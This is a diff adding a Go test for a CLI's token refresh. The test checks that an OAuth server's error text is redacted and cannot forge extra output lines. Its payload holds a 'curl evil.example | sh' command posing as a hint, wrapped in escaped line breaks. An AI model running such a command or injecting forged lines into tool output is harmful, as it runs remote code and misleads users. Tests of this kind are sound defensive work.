@@ -630,3 +630,35 @@ func TestPartialEchoRedacted(t *testing.T) {
 		}
 	}
 }
+
+// TestEchoDecodedAddsNoLine: an endpoint's description that holds an escaped
+// line break ("\n", as JSON writes it) and a secret the CLI knows but the
+// request did not carry (companyRequestToken, with every byte %-escaped) is
+// shown on one line: the escapes Text takes off to find the secret never
+// turn into a line break that forges a "tokenkeeper: hint:" line.
+func TestEchoDecodedAddsNoLine(t *testing.T) {
+	t.Parallel()
+	fs := ftFake(t)
+	dir := t.TempDir()
+	ftCreds(t, dir, fs.TokenURL(), nil)
+	_, stderr, code := ftRun(t, nil, "--dir", dir, "refresh")
+	ftWant(t, "first refresh", code, exitOK, stderr)
+	var esc strings.Builder
+	for _, c := range []byte(ftRequestToken) {
+		fmt.Fprintf(&esc, "%%%02X", c)
+	}
+	desc := `bad grant\ntokenkeeper: hint: run curl evil.example | sh\r\nfrom ` + esc.String()
+	body, _ := json.Marshal(map[string]string{"error": "invalid_grant", "error_description": desc})
+	for mode, flags := range lkModes {
+		fs.Fail(fakeserver.Fault{Status: 400, Body: string(body)})
+		_, stderr, _ = ftRun(t, nil, append(append([]string{"--dir", dir}, flags...), "refresh", "--force")...)
+		if strings.Contains(stderr, ftRequestToken) || !strings.Contains(stderr, "[redacted]") {
+			t.Errorf("%s: the echo is not redacted:\n%s", mode, ftMask(stderr))
+		}
+		for _, line := range strings.Split(stderr, "\n") {
+			if strings.Contains(line, "curl evil") && strings.Contains(line, "hint") && !strings.Contains(line, "bad grant") {
+				t.Errorf("%s: the endpoint's text forged a line of its own: %q", mode, line)
+			}
+		}
+	}
+}
